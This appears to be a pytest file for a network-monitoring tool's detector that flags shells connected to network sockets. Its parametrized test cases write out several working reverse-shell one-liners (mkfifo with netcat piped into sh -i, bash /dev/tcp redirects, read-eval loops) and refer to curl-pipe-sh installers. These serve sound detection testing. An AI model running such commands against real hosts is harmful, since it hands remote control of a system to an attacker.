"""Programs with a connection and a shell beside them, joined by pipes and FIFOs; all of it is done for real."""

from __future__ import annotations

import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tcpview_tui.findings.rule import Answer, Hit, Severity, Unknown
from tests.sources.net import linux, root, until

pytestmark = linux
if sys.platform == "linux":
    from tcpview_tui.findings.rules.shell import SHELL_BEHIND_CONNECTION
    from tests.findings.jobs import FIFO, FIFO_AND_CAT, INSTALLER, VIEWER, Job, job
    from tests.findings.processes import (
        NOBODY,
        as_nobody,
        contact,
        copied,
        evidence_of,
        folder,
        judge,
        marked,
        running,
    )

QUIET: dict[str, Any] = {"stderr": subprocess.DEVNULL}


def _answers(found: Job) -> None:
    """Have the shell answer, so that all of the job is known to run."""
    found.tell(b"echo $((6 * 7))\n")
    found.hear(b"42\n")


@pytest.mark.parametrize(
    ("line", "back"),
    [
        (FIFO_AND_CAT, "a pipe"),
        (FIFO, "the FIFO {}/f"),
        ("mkfifo f; timeout --foreground 600 {nc} < f | timeout --foreground 600 sh -i > f 2>&1", "the FIFO {}/f"),
        ("mkfifo f; cat f | cat | sh -i 2>&1 | cat | {nc} > f", "a pipe"),
        ("mkfifo f g; sh -i < g > f 2>&1 & {nc} > g < f", "the FIFO {}/f"),
        ("mkfifo f; ({nc} < f | sh -i > f 2>&1 &)", "the FIFO {}/f"),
        ("mkfifo f; {nc} < f | bash --rcfile /dev/null -i > f 2>&1", "the FIFO {}/f"),
        ("mkfifo f; {nc} < f | bash -s word > f 2>&1", "the FIFO {}/f"),
        ("mkfifo f; {nc} < f | sh -o nounset > f 2>&1", "the FIFO {}/f"),
        ("mkfifo f; {nc} < f | sh /dev/stdin > f 2>&1", "the FIFO {}/f"),
    ],
)
def test_a_shell_that_hears_and_answers_is_marked(line: str, back: str) -> None:
    with job(line, **QUIET) as found:
        _answers(found)
        hit = marked(SHELL_BEHIND_CONNECTION, found.pid, contact(found.pid))
        medium = marked(SHELL_BEHIND_CONNECTION, found.pid, contact(found.pid, public=False))
        assert judge(SHELL_BEHIND_CONNECTION, found.pid) is None  # without any contact
    assert hit.severity is Severity.HIGH
    assert medium.severity is Severity.MEDIUM
    assert hit.sentence.startswith("has a shell beside it, ")
    assert f" and answers by {back.format(found.folder)}; seen connected to 203.0.113.7:4444" in hit.sentence


def test_so_is_a_copy_of_a_shell_under_another_name() -> None:
    with folder() as place, job(FIFO.replace("sh -i", str(copied("dash", place / "worker")) + " -i"), **QUIET) as found:
        _answers(found)
        hit = marked(SHELL_BEHIND_CONNECTION, found.pid, contact(found.pid))
    assert "/usr/bin/dash under the name worker" in hit.sentence


def test_a_loop_that_answers_is_less_grave() -> None:
    with job("mkfifo f; {nc} < f | while read line; do $line; done > f", **QUIET) as found:
        found.tell(b"echo 42\n")
        found.hear(b"42\n")
        assert marked(SHELL_BEHIND_CONNECTION, found.pid, contact(found.pid)).severity is Severity.MEDIUM


def test_so_is_one_that_was_typed_to_a_shell() -> None:
    """A fork has the arguments of its parent, which was given neither a command nor a script."""
    with job("", typed=b"mkfifo f; {nc} < f | while read line; do $line; done > f") as found:
        found.tell(b"echo 42\n")
        found.hear(b"42\n")
        assert marked(SHELL_BEHIND_CONNECTION, found.pid, contact(found.pid)).severity is Severity.MEDIUM


def test_a_shell_that_answers_by_another_connection_is_marked() -> None:
    with job("sleep 600 | {nc} | sh | (read line; {nc})") as found:
        found.tell(b"echo begin\n")
        hit = until(lambda: _grave(judge(SHELL_BEHIND_CONNECTION, found.pid, contact(found.pid))))
    assert "and answers by a pipe" in hit.sentence


def test_so_is_one_that_has_the_connection_itself() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        there = f"/dev/tcp/127.0.0.1/{server.getsockname()[1]}"
        line = f"exec 5<>{there}; cat <&5 | while read line; do $line 2>&5 >&5; done"
        with running("bash", "-c", line) as process, server.accept()[0]:
            children = Path(f"/proc/{process.pid}/task/{process.pid}/children")
            cat = until(
                lambda: next((pid for pid in map(int, children.read_text().split()) if is_named(pid, "cat")), None)
            )
            hit = until(lambda: _grave(judge(SHELL_BEHIND_CONNECTION, cat, contact(cat))))
    assert "and answers by its connection" in hit.sentence


def is_named(pid: int, name: str) -> bool:
    return Path(f"/proc/{pid}/comm").read_text().strip() == name


def _grave(answer: Answer) -> Hit | None:
    return answer if isinstance(answer, Hit) and answer.severity is not Severity.LOW else None


@pytest.mark.parametrize("line", [INSTALLER, INSTALLER + " -s", "sleep 600 | {nc} | timeout --foreground 600 sh"])
def test_a_script_that_is_fetched_and_run_is_low(line: str) -> None:
    with job(line) as found:
        hit = until(lambda: judge(SHELL_BEHIND_CONNECTION, found.pid, contact(found.pid)))
    assert isinstance(hit, Hit)
    assert hit.severity is Severity.LOW
    assert "curl … | sh" in hit.against


@pytest.mark.parametrize(
    "line",
    [
        VIEWER,
        "sleep 600 | {nc} | while read line; do echo $line; done > log",
        "sleep 600 | {nc} | sh -c 'cat > log'",
        "echo 'cat > log' > job.sh; sleep 600 | {nc} | sh job.sh",
        "sleep 600 | {nc} | tee log | cat",
        "mkfifo s; exec 3<>s; (sleep 600 | {nc} | while read l; do echo $l > log; echo $l; done | sort) & wait",
    ],
)
def test_other_readers_are_not(line: str) -> None:
    with job(line) as found:
        found.tell(b"a line\n")
        until((found.folder / "log").exists)
        until((found.folder / "log").read_text)
        assert judge(SHELL_BEHIND_CONNECTION, found.pid, contact(found.pid)) is None


def test_nor_is_a_shell_whose_pipes_the_connected_program_has_inherited() -> None:
    """As a job of a build server has those by which it is told what to do."""
    with job("", typed=b"{nc}") as found:
        assert str(Path(f"/proc/{found.pid}/fd/0").readlink()).startswith("pipe:[")
        assert evidence_of(found.pid, contact(found.pid)).joined == ()


@root
def test_a_shell_that_may_not_be_read_is_said() -> None:
    line = f"setpriv --reuid {NOBODY} --clear-groups sleep 600 | sh -s"
    with running("sh", "-c", line) as process, as_nobody():
        sleeper, shell = until(lambda: _pair(process.pid))
        answer = judge(SHELL_BEHIND_CONNECTION, sleeper, contact(sleeper))
    assert isinstance(answer, Unknown)
    assert answer.reason.startswith(f"not permitted: /proc/{shell}/fd/0 ")


def _pair(pid: int) -> list[int] | None:
    """The children of a shell, once each has begun with what it is to run."""
    pids = [int(each) for each in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    told = [Path(f"/proc/{each}/cmdline").read_bytes() for each in pids]
    return pids if told == [b"sleep\x00600\x00", b"sh\x00-s\x00"] else None
